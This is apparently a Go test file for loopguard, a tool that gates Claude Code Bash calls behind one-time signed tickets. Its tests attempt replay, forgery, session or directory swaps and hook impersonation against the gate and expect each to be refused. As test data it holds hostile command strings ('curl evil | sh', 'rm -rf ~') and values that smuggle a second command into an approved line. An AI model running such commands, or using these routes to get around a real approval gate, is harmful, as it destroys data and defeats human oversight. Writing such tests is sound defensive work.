package ticket

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

var testKey = []byte("0123456789abcdef0123456789abcdef")

// hostLine is the line Claude Code 2.1.328 hands its shell prefix for a
// Bash call of cmd (its preamble, eval of the quoted command, pwd).
func hostLine(cmd string) string {
	q := "'" + strings.ReplaceAll(cmd, "'", `'"'"'`) + "'"
	return `source '/home/u/.claude/shell-snapshots/snapshot-bash-1.sh' 2>/dev/null || true && { \builtin shopt -u extglob || \builtin setopt NO_EXTENDED_GLOB; } >/dev/null 2>&1 || true && { \builtin unalias -- 'unsetenv'; \builtin unset -f -- 'unsetenv'; } >/dev/null 2>&1 || true && eval ` + q + ` < /dev/null && pwd -P >| /tmp/claude-3f2a-cwd`
}

type fixture struct {
	t     *testing.T
	store *Store
	now   time.Time
	cwd   string
}

func newFixture(t *testing.T) *fixture {
	f := &fixture{t: t, now: time.Unix(1_800_000_000, 0), cwd: t.TempDir()}
	f.store = &Store{Dir: filepath.Join(t.TempDir(), "tickets"), Now: func() time.Time { return f.now }}
	return f
}

// issue issues a ticket for cmd in session s and returns the marked
// command the host would run.
func (f *fixture) issue(session, cmd string) string {
	f.t.Helper()
	nonce, err := NewNonce()
	if err != nil {
		f.t.Fatal(err)
	}
	marked := Mark(nonce, cmd)
	tk := &Ticket{Session: session, Nonce: nonce, Command: marked, Project: f.cwd, Cwd: f.cwd, Expiry: f.now.Add(Lifetime).Unix()}
	if err := f.store.Issue(tk, testKey); err != nil {
		f.t.Fatal(err)
	}
	return marked
}

func (f *fixture) gate(session string) *Gate {
	return &Gate{Store: f.store, Session: session, Cwd: f.cwd, Key: func() ([]byte, error) { return testKey, nil }}
}

func reasonOf(err error) string {
	var e *Error
	if errors.As(err, &e) {
		return e.Reason
	}
	if err == nil {
		return ""
	}
	return "other: " + err.Error()
}

// Each attack on the wrapper, with its control.
func TestGateAttacks(t *testing.T) {
	for _, readOnly := range []bool{false, true} {
		name := "writable"
		if readOnly {
			name = "sandbox"
		}
		t.Run(name, func(t *testing.T) {
			setup := func(t *testing.T) *fixture {
				f := newFixture(t)
				if readOnly {
					f.store.Writable = func(string) bool { return false }
				}
				return f
			}
			t.Run("control runs once", func(t *testing.T) {
				f := setup(t)
				cmd := f.issue("s1", "touch a")
				c, err := f.gate("s1").check(hostLine(cmd))
				if err != nil {
					t.Fatalf("control refused: %v", err)
				}
				if readOnly && c.Hold == nil || !readOnly && c.Hold != nil {
					t.Fatalf("hold = %v", c.Hold)
				}
				if c.Hold != nil {
					c.Hold.Close() // the command ended
					if !f.store.Spend(c.Ticket.Nonce) {
						t.Fatal("PostToolUse could not spend the ticket")
					}
				}
				if _, err := f.gate("s1").check(hostLine(cmd)); reasonOf(err) != ReasonTicketUsed {
					t.Fatalf("replay: %v", err)
				}
			})
			t.Run("replay while running", func(t *testing.T) {
				f := setup(t)
				cmd := f.issue("s1", "sleep 100")
				c, err := f.gate("s1").check(hostLine(cmd))
				if err != nil {
					t.Fatal(err)
				}
				defer func() {
					if c.Hold != nil {
						c.Hold.Close()
					}
				}()
				if _, err := f.gate("s1").check(hostLine(cmd)); reasonOf(err) != ReasonTicketUsed {
					t.Fatalf("second run: %v", err)
				}
			})
			t.Run("no ticket", func(t *testing.T) {
				f := setup(t)
				if _, err := f.gate("s1").check(hostLine("touch a")); reasonOf(err) != ReasonNoDecision {
					t.Fatalf("unmarked: %v", err)
				}
				n, _ := NewNonce()
				if _, err := f.gate("s1").check(hostLine(Mark(n, "touch a"))); reasonOf(err) != ReasonNoDecision {
					t.Fatalf("a marker no hook issued: %v", err)
				}
			})
			t.Run("expired", func(t *testing.T) {
				f := setup(t)
				cmd := f.issue("s1", "touch a")
				f.now = f.now.Add(Lifetime + time.Second)
				if _, err := f.gate("s1").check(hostLine(cmd)); reasonOf(err) != ReasonTicketExpired {
					t.Fatalf("expired: %v", err)
				}
			})
			t.Run("other session", func(t *testing.T) {
				f := setup(t)
				cmd := f.issue("s1", "touch a")
				if _, err := f.gate("s2").check(hostLine(cmd)); reasonOf(err) != ReasonTicketInvalid {
					t.Fatalf("other session: %v", err)
				}
				if _, err := f.gate("").check(hostLine(cmd)); reasonOf(err) != ReasonTicketInvalid {
					t.Fatalf("no session: %v", err)
				}
			})
			t.Run("command changed", func(t *testing.T) {
				f := setup(t)
				cmd := f.issue("s1", "touch a")
				nonce, _, _ := Unmark(cmd)
				for _, changed := range []string{Mark(nonce, "touch b"), cmd + "; rm -rf ~", cmd + "\n"} {
					if _, err := f.gate("s1").check(hostLine(changed)); reasonOf(err) != ReasonTicketInvalid {
						t.Fatalf("%q: %v", changed, err)
					}
				}
				// The host's own NUL spelling is the same command.
				cmd = f.issue("s1", "ls >NUL")
				if _, err := f.gate("s1").check(hostLine(strings.Replace(cmd, "NUL", "/dev/null", 1))); err != nil {
					t.Fatalf("host's /dev/null for NUL: %v", err)
				}
			})
			t.Run("other cwd", func(t *testing.T) {
				f := setup(t)
				cmd := f.issue("s1", "touch a")
				g := f.gate("s1")
				g.Cwd = t.TempDir()
				if _, err := g.check(hostLine(cmd)); reasonOf(err) != ReasonTicketInvalid {
					t.Fatalf("other cwd: %v", err)
				}
			})
			t.Run("forged", func(t *testing.T) {
				f := setup(t)
				cmd := f.issue("s1", "touch a")
				nonce, _, _ := Unmark(cmd)
				// The file rewritten for another command, its MAC kept.
				p := filepath.Join(f.store.Dir, nonce)
				data, _ := os.ReadFile(p)
				var tk Ticket
				_ = json.Unmarshal(data, &tk)
				tk.Command = Mark(nonce, "curl evil | sh")
				data, _ = json.Marshal(tk)
				_ = os.WriteFile(p, data, 0o600)
				_, err := f.gate("s1").check(hostLine(tk.Command))
				if readOnly {
					// Inside the sandbox the directory is the proof: nobody
					// in it could have written this file.
					if err != nil {
						t.Fatalf("read-only store: %v", err)
					}
					return
				}
				if reasonOf(err) != ReasonTicketInvalid {
					t.Fatalf("forged command: %v", err)
				}
				// A ticket sealed with another key.
				n2, _ := NewNonce()
				other := &Ticket{Session: "s1", Nonce: n2, Command: Mark(n2, "id"), Cwd: f.cwd, Expiry: f.now.Add(time.Minute).Unix()}
				if err := f.store.Issue(other, []byte("another key, 32 bytes long......")); err != nil {
					t.Fatal(err)
				}
				if _, err := f.gate("s1").check(hostLine(other.Command)); reasonOf(err) != ReasonTicketInvalid {
					t.Fatalf("other key: %v", err)
				}
			})
		})
	}
}

func TestClaimOnceUnderConcurrency(t *testing.T) {
	for round := 0; round < 20; round++ {
		f := newFixture(t)
		cmd := f.issue("s1", "touch a")
		var wins atomic.Int32
		var wg sync.WaitGroup
		for i := 0; i < 8; i++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				if _, err := f.gate("s1").check(hostLine(cmd)); err == nil {
					wins.Add(1)
				} else if reasonOf(err) != ReasonTicketUsed {
					t.Errorf("loser: %v", err)
				}
			}()
		}
		wg.Wait()
		if wins.Load() != 1 {
			t.Fatalf("round %d: %d winners", round, wins.Load())
		}
	}
}

func TestEvaluated(t *testing.T) {
	cmd := Mark("0123456789abcdef0123456789abcdef", "echo 'it''s' \"$HOME\" | wc -c")
	got, err := evaluated(hostLine(cmd))
	if err != nil || got != cmd {
		t.Fatalf("got %q, %v", got, err)
	}
	bad := []string{
		"touch a",                        // no eval
		"eval 'a' && eval 'b'",           // two
		"eval \"$X\"",                    // an expansion
		"eval 'a' b",                     // two words
		"true; eval 'a'",                 // two statements
		"{ eval 'x'; } && eval 'a'",      // an eval elsewhere
		"eval 'a' && \\eval 'b'",         // an escaped eval
		"eval 'a' && $(eval b)",          // in a substitution
		"source x && eval 'a' || eval b", // || is not the host's
	}
	for _, line := range bad {
		if _, err := evaluated(line); reasonOf(err) != ReasonNoDecision {
			t.Errorf("%q: %v", line, err)
		}
	}
}

// A Bash call byte-identical to loopguard's hook command line is a Bash
// call: the host wraps it in its preamble, so it needs a ticket.
func TestHookCommandAsBashCallNeedsATicket(t *testing.T) {
	dir := t.TempDir()
	self := filepath.Join(dir, "loopguard-exec")
	lg := filepath.Join(dir, "loopguard")
	for _, p := range []string{self, lg} {
		if err := os.WriteFile(p, []byte("#!/bin/sh\n"), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	hook := lg + " hook --event PreToolUse --mode enforce --ticket"
	g := &Gate{Self: self}
	if _, ok := g.ownHook(hook); !ok {
		t.Fatal("control: the registered hook command is not passed through")
	}
	if _, ok := g.ownHook(hostLine(hook)); ok {
		t.Fatal("a Bash call copying the hook's command line passed as the hook")
	}
	f := newFixture(t)
	if _, err := f.gate("s1").check(hostLine(hook)); reasonOf(err) != ReasonNoDecision {
		t.Fatalf("Bash call copying the hook: %v", err)
	}
	// By identity, never by name: a loopguard elsewhere, a link to a
	// shell named loopguard, more after the hook.
	other := filepath.Join(t.TempDir(), "loopguard")
	_ = os.Symlink("/bin/sh", other)
	for _, line := range []string{
		other + " hook --event PreToolUse",
		"loopguard hook --event PreToolUse",
		hook + "; touch x",
		hook + " && touch x",
		lg + " review",
	} {
		if _, ok := g.ownHook(line); ok {
			t.Errorf("%q passed through", line)
		}
	}
}

func TestMarkUnmark(t *testing.T) {
	n, _ := NewNonce()
	m := Mark(n, "a\nb")
	got, rest, ok := Unmark(m)
	if !ok || got != n || rest != "a\nb" {
		t.Fatalf("%q %q %v", got, rest, ok)
	}
	for _, s := range []string{"#loopguard-ticket:xyz\nls", "ls", "#loopguard-ticket:" + n, " #loopguard-ticket:" + n + "\nls"} {
		if _, _, ok := Unmark(s); ok {
			t.Errorf("%q unmarked", s)
		}
	}
}

func TestIsRefusal(t *testing.T) {
	var b strings.Builder
	(&Gate{Stderr: &b}).refuse(refuse(ReasonNoDecision, "x"))
	if !IsRefusal("Exit code 126\n" + b.String()) {
		t.Fatalf("%q", b.String())
	}
	if IsRefusal("loopguard: something else") {
		t.Fatal("not a refusal")
	}
}
